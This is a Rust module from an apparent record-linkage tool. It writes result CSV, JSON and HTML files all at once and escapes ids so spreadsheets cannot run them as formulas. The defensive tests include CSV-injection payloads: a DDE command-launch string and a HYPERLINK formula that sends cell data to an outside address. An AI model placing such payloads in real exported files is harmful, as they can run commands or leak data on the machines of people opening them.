//! Writing the results: into a folder beside, moved into place when all is whole.

use super::{Args, read::ReadFiles, report};
use linkage::{Engine, Linked, runs_as_formula};
use std::{
    fs::{self, File},
    io::{BufWriter, Write},
    path::{Path, PathBuf},
};

/// Writes the four files. Either all are new or none is.
pub fn all(
    args: &Args,
    folder: &Path,
    lang: domain::Lang,
    engine: &Engine,
    linked: &Linked,
    read: &ReadFiles,
) -> Result<(), String> {
    let tell = |what: &Path, e: std::io::Error| {
        args.tongue.tell(
            "command-not-written",
            &[("file", &what.display()), ("why", &e)],
        )
    };
    fs::create_dir_all(folder).map_err(|e| tell(folder, e))?;
    let beside = Beside(folder.join(format!(".unfinished-{}", std::process::id())));
    fs::create_dir_all(&beside.0).map_err(|e| tell(&beside.0, e))?;
    let strip = usize::from(args.files.len() == 2);
    let model = serde_json::to_string_pretty(engine.model()).map_err(|e| e.to_string())?;
    let page = report::page(lang, engine, linked, read);
    let put = |name: &str, fill: &dyn Fn(&mut BufWriter<File>) -> std::io::Result<()>| {
        let path = beside.0.join(name);
        let write = || {
            let mut out = BufWriter::with_capacity(1 << 20, File::create(&path)?);
            fill(&mut out)?;
            out.into_inner()
                .map_err(std::io::IntoInnerError::into_error)?
                .sync_all()
        };
        write().map_err(|e| tell(&path, e))
    };
    put("links.csv", &|out| links(out, engine, linked, strip))?;
    put("clusters.csv", &|out| clusters(out, engine, linked, strip))?;
    put("model.json", &|out| out.write_all(model.as_bytes()))?;
    put("report.html", &|out| out.write_all(page.as_bytes()))?;
    for name in ["links.csv", "clusters.csv", "model.json", "report.html"] {
        fs::rename(beside.0.join(name), folder.join(name))
            .map_err(|e| tell(&folder.join(name), e))?;
    }
    Ok(())
}

/// The folder in which the files grow; gone at the end, however it ends.
struct Beside(PathBuf);

impl Drop for Beside {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// Pairs whose ids are fetched at a time.
const TOGETHER: usize = 256;

/// An id as a field, quoted where it must be. One that a spreadsheet would run has a `'` in front:
/// whoever reads the file takes one leading `'` away.
fn id(out: &mut impl Write, bytes: &[u8], strip: usize) -> std::io::Result<()> {
    let bytes = bytes.get(strip..).unwrap_or_default();
    // Nearly every id is letters and digits, which is told without looking for each mark by itself.
    if bytes.iter().all(u8::is_ascii_alphanumeric) {
        return out.write_all(bytes);
    }
    let mark = runs_as_formula(bytes);
    let separates = |b: &u8| matches!(b, b',' | b';' | b'"' | b'\n' | b'\r' | b'\t');
    if mark || bytes.iter().any(separates) {
        let text = String::from_utf8_lossy(bytes).replace('"', "\"\"");
        write!(out, "\"{}{text}\"", if mark { "'" } else { "" })
    } else {
        out.write_all(bytes)
    }
}

fn links(
    out: &mut impl Write,
    engine: &Engine,
    linked: &Linked,
    strip: usize,
) -> std::io::Result<()> {
    writeln!(out, "record_id_1,record_id_2,weight,probability,outcome")?;
    let mut ids = Vec::with_capacity(TOGETHER);
    let parts = linked.pairs.chunks(TOGETHER);
    for (pairs, outcomes) in parts.zip(linked.outcomes.chunks(TOGETHER)) {
        engine.ids_of(pairs, &mut ids);
        for ((pair, outcome), (a, b)) in pairs.iter().zip(outcomes).zip(&ids) {
            id(out, a, strip)?;
            out.write_all(b",")?;
            id(out, b, strip)?;
            out.write_all(b",")?;
            decimal(out, pair.score.weight, 3)?;
            out.write_all(b",")?;
            decimal(out, pair.score.probability(), 6)?;
            out.write_all(b",")?;
            out.write_all(outcome.name().as_bytes())?;
            out.write_all(b"\n")?;
        }
    }
    Ok(())
}

/// A number with so many places behind the point; with millions of pairs the general way of
/// writing numbers is felt.
fn decimal(out: &mut impl Write, number: f32, places: u32) -> std::io::Result<()> {
    let unit = 10_u64.pow(places);
    let scaled = (f64::from(number).abs() * unit as f64).round();
    let mut rest = scaled as u64;
    let mut digits = [b'0'; 32];
    let mut at = digits.len();
    let mut put = |digit: u8| {
        at -= 1;
        digits[at] = digit;
        at
    };
    for place in 0_u32.. {
        if place > places && rest == 0 {
            break;
        }
        if place == places {
            put(b'.');
        }
        put(b'0' + (rest % 10) as u8);
        rest /= 10;
    }
    let from = if number < 0.0 && scaled > 0.0 {
        put(b'-')
    } else {
        at
    };
    out.write_all(&digits[from..])
}

fn clusters(
    out: &mut impl Write,
    engine: &Engine,
    linked: &Linked,
    strip: usize,
) -> std::io::Result<()> {
    writeln!(out, "record_id,cluster_id")?;
    for place in engine.places() {
        id(out, engine.id_at(place), strip)?;
        out.write_all(b",")?;
        id(out, engine.id_at(linked.clusters[place as usize]), strip)?;
        writeln!(out)?;
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test")]
mod tests {
    use super::*;

    /// A field as it stands in the file, and as whoever reads it gets it back.
    fn written(text: &str) -> (String, String) {
        let mut out = Vec::new();
        id(&mut out, text.as_bytes(), 0).unwrap();
        let field = String::from_utf8(out).unwrap();
        let cell = match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
            Some(quoted) => quoted.replace("\"\"", "\""),
            None => field.clone(),
        };
        let back = cell.strip_prefix('\'').unwrap_or(&cell).to_owned();
        (cell, back)
    }

    #[test]
    fn nothing_that_leaves_is_a_formula_and_everything_can_be_had_back() {
        let signs = [
            "=", "+", "-", "@", "\t", "\r", "\n", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}",
        ];
        for sign in signs {
            for text in [
                format!("{sign}1+1"),
                format!("{sign}cmd|' /C calc'!A0"),
                format!("  {sign}HYPERLINK(\"http://192.0.2.1/?\"&A1)"),
                sign.to_owned(),
            ] {
                let (cell, back) = written(&text);
                assert!(cell.starts_with('\''), "{text:?} is a formula: {cell:?}");
                assert_eq!(back, text);
            }
        }
        for text in [
            "1007", "a;=1", "O'Brien", "'quoted", "''twice", "a,b\"c", "x\ty", "",
        ] {
            assert_eq!(written(text).1, text, "{text:?}");
        }
        assert_eq!(written("1007").0, "1007", "plain ids stay plain");
        let mut out = Vec::new();
        id(&mut out, b"a;=1", 0).unwrap();
        assert_eq!(
            out, b"\"a;=1\"",
            "one cell where a semicolon separates, too"
        );
    }

    #[test]
    fn numbers_are_written_as_they_are_anywhere() {
        for (number, places) in [
            (0.0, 3),
            (-0.0001, 3),
            (6.63, 3),
            (-10.0, 3),
            (123.456_7, 3),
            (0.999_999_9, 6),
            (0.000_001, 6),
            (-0.5, 3),
            (1e-9, 6),
        ] {
            let mut out = Vec::new();
            decimal(&mut out, number, places).unwrap();
            let usual = format!("{number:.*}", places as usize);
            let usual = usual
                .strip_prefix('-')
                .filter(|t| t.bytes().all(|b| b == b'0' || b == b'.'))
                .unwrap_or(&usual);
            assert_eq!(String::from_utf8(out).unwrap(), usual);
        }
    }
}
